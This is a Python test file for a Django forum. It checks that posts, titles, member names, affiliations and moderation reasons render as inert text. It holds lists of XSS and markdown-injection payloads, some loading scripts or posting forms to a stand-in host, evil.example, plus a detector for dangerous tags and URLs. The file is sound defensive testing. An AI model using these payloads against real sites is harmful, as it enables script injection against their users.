"""What attackers write stays text: in posts, titles, names and affiliations, on every page that shows them."""

import re
from html.parser import HTMLParser

import pytest
from django.http import HttpResponse
from django.test import Client

from core.markdown import DIALECT_TAGS, TAGS, render
from members.models import Member
from tests.factories import make_member, make_post, make_thread, make_topic

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=q></form>",
    "<p style=position:fixed onclick=alert(1)>x</p>",
    "<div hx-get=/accounts/logout/ hx-trigger=load data-hx-post=/>",
    "<hx-partial hx-target=body>x</hx-partial>",
    "<template hx type=partial hx-target=body>x</template>",
    "<meta name=htmx-config content='{}'><base href=//evil.example>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }}{% load static %}%(name)s",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '![x](x "onerror=alert(1)")',
    "[x](https://ok.example \"' onmouseover=alert(1) '\")",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "1. <svg onload=alert(1)>",
]
FORBIDDEN = {"script", "img", "iframe", "object", "embed", "base", "math", "animate", "template", "hx-partial"}


class Walker(HTMLParser):
    """Collects what a browser would take as markup."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def ours(script: dict[str, str | None]) -> bool:
    """Tell whether a script is a file of ours, or data for search engines, which nothing runs."""
    return str(script.get("src")).startswith("/static/") or script == {"type": "application/ld+json"}


def faults(html: str) -> list[str]:
    """Return every element and attribute of a page that none of our templates writes."""
    found = []
    for tag, attributes in Walker(html).found:
        if tag in FORBIDDEN and not (tag == "script" and ours(attributes)):
            found.append(tag)
        found += [f"{tag} {name}" for name in attributes if name.startswith("on") or name in {"style", "srcdoc"}]
        for name in ("href", "src", "action"):
            value = re.sub(r"[\s\x00-\x1f]", "", str(attributes.get(name) or ""))
            if re.match(r"(?i)(javascript|data|vbscript):", value) or "evil.example" in value:
                found.append(f"{tag} {name}={value}")
    return found


def fragment_faults(html: str) -> list[str]:
    """Return what stands in a rendered text beyond the allow-list."""
    return [tag for tag, attributes in Walker(html).found if tag not in TAGS | DIALECT_TAGS] + faults(html)


def faults_of(answer: HttpResponse) -> list[str]:
    return faults(answer.content.decode())


def test_the_walker_would_see_them() -> None:
    """A test of leaks needs something that leaks."""
    quiet = ("<div", "<hx", "</", "<f", "<no")  # markup that needs htmx, or a browser, to do harm
    raw = [vector for vector in VECTORS if vector.startswith("<") and not vector.startswith(quiet)]

    assert [vector for vector in raw if not faults(vector)] == []


@pytest.mark.parametrize("vector", [*VECTORS, *MARKDOWN])
def test_A17_a_rendered_text_keeps_to_the_allow_list(vector: str) -> None:
    assert fragment_faults(render(f"Before\n\n{vector}\n\nafter")) == []
    assert fragment_faults(render(vector)) == []


def test_A17_posts_stay_text(chiara: Member, eve: Client, signed_in) -> None:
    thread = make_thread(make_topic("Open"))
    posts = [make_post(thread, by=chiara, source=vector) for vector in (*VECTORS, *MARKDOWN)]
    browser, address = signed_in(chiara), thread.get_absolute_url()

    for number in range(1, thread.page_count + 1):
        assert faults_of(eve.get(address, {"page": number})) == []
    for post in posts:
        assert (post.source, faults_of(browser.get(address, {"quote": post.pk}))) == (post.source, [])


def test_A17_texts_that_come_back_stay_text(chiara: Member, signed_in) -> None:
    address, browser = f"{make_thread().get_absolute_url()}reply/", signed_in(chiara)

    for vector in (*VECTORS, *MARKDOWN):
        preview = browser.post("/preview/", {"source": vector, "preview": "1", "language": vector})
        page = browser.post(address, {"source": vector, "preview": "1", "language": vector, "shown": vector})
        refused = browser.post(address, {"source": vector, "language": vector, "token": vector})
        assert (vector, refused.status_code) == (vector, 422)
        assert (vector, [faults_of(answer) for answer in (preview, page, refused)]) == (vector, [[], [], []])


def test_A17_titles_and_reasons_stay_text(ada: Member, chiara: Member, eve: Client, signed_in) -> None:
    topic, browser, moderator = make_topic("Open"), signed_in(chiara), signed_in(ada)

    for vector in VECTORS:
        thread = make_thread(topic, title=vector)
        address = thread.get_absolute_url()
        moderator.post(f"{address}close/", {"reason": vector})
        answers = [
            eve.get(address),
            moderator.get(f"{address}hide/"),
            moderator.post(f"{address}hide/", {"reason": ""}),
            browser.post("/topics/open/new/", {"title": vector, "source": "", "language": "en"}),
        ]
        assert (vector, [faults_of(answer) for answer in answers]) == (vector, [[]] * 4)
    assert faults_of(eve.get("/topics/")) == faults_of(eve.get("/topics/open/")) == []


def test_A17_names_and_affiliations_stay_text(chiara: Member, eve: Client, signed_in) -> None:
    topic, browser = make_topic("Open"), signed_in(chiara)

    for vector in VECTORS:
        author = make_member(vector[:80], affiliation=vector)
        post = make_post(make_thread(topic, by=author), by=author)
        answers = [
            eve.get(post.thread.get_absolute_url()),
            browser.get(post.thread.get_absolute_url(), {"quote": post.pk}),
            signed_in(author).get(post.thread.get_absolute_url()),
        ]
        assert (vector, [faults_of(answer) for answer in answers]) == (vector, [[]] * 3)
    assert faults_of(eve.get("/topics/open/")) == []


def test_A17_reasons_in_the_place_of_a_post_stay_text(ada: Member, eve: Client) -> None:
    thread = make_thread()
    for vector in VECTORS:
        make_post(thread).hide(by=ada, reason=vector)

    answer = eve.get(thread.get_absolute_url())

    assert answer.content.decode().count("is hidden.") == len(VECTORS)
    assert faults_of(answer) == []


def test_A17_the_workplace_shows_vectors_as_text(ada: Member, signed_in) -> None:
    posts = []
    for vector in VECTORS:
        author = make_member(vector[:80], affiliation=vector)
        posts.append(make_post(make_thread(by=author, title=vector, source=vector), by=author, source=vector))
        posts[-1].hide(by=ada, reason=vector)
    browser = signed_in(ada)

    lists = ["forum/thread", "forum/post", "forum/moderationentry", "members/member"]
    pages = [f"/admin/{name}/" for name in lists] + [f"/admin/forum/post/{post.pk}/change/" for post in posts]
    answers = [browser.get(page) for page in pages]
    answers.append(browser.post("/admin/forum/post/", {"action": "restore", "_selected_action": [p.pk for p in posts]}))
    for answer in answers:
        html = answer.content.decode()
        assert answer.status_code == 200
        assert "<script>alert" not in html
        assert [tag for tag, attributes in Walker(html).found if any(a.startswith("on") for a in attributes)] == []
